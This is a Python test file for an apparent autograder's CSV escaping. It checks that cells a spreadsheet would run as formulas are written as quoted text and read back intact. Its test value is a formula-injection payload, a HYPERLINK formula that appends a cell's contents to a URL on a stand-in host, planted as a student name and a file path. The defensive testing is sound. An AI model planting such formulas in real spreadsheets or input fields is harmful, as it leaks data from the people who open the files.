"""CSV cells a spreadsheet will not run (autograder/csv_cells.py), in every CSV the kit writes and reads back."""

from pathlib import PurePosixPath

from autograder.csv_cells import neutral, original
from autograder.lms.filenames import lms_file
from autograder.lms.ids import read_lms_ids, write_lms_ids
from autograder.reporting.grades_csv import read_grades_csv, write_grades_csv
from autograder.reporting.results import gradescope_results
from autograder.runner.outcome import CheckResult

FORMULA = '=HYPERLINK("http://example.com/?"&A1,"see")'


def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_read_back_as_it_was():
    for cell in (FORMULA, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "'quoted", "''twice"):
        assert neutral(cell) == f"'{cell}" and original(neutral(cell)) == cell
    for cell in ("alice", "12.5", "0", "", "a=b"):
        assert neutral(cell) == cell and original(neutral(cell)) == cell


def test_grades_csv_holds_no_formula_and_reads_back_the_students_id(tmp_path):
    results = gradescope_results([CheckResult("tokenize", "splits words", 2, passed=True, output="")])
    write_grades_csv({FORMULA: results, "bob": results}, tmp_path / "grades.csv")
    text = (tmp_path / "grades.csv").read_text(encoding="utf-8")
    assert "\n=" not in text and "'=HYPERLINK" in text
    _, grades = read_grades_csv(tmp_path / "grades.csv")
    assert set(grades) == {FORMULA, "bob"} and grades[FORMULA].total == 2


def test_lms_ids_csv_holds_no_formula_and_reads_back_the_ids(tmp_path):
    """A Moodle name comes from the LMS, a name the student gave their account; its file path does too."""
    path = PurePosixPath(f"{FORMULA}_2324116_assignsubmission_file/sentiment_rnn.ipynb")
    files = {"=student": lms_file(path), "+plain": None}
    write_lms_ids(files, tmp_path / "lms_ids.csv")
    text = (tmp_path / "lms_ids.csv").read_text(encoding="utf-8")
    assert all(not line.startswith(("=", "+", "-", "@")) for line in text.splitlines())
    assert "'=HYPERLINK" in text
    ids = read_lms_ids(tmp_path / "lms_ids.csv")
    assert set(ids) == {"=student", "+plain"} and ids["+plain"] is None and ids["=student"] == files["=student"].owner
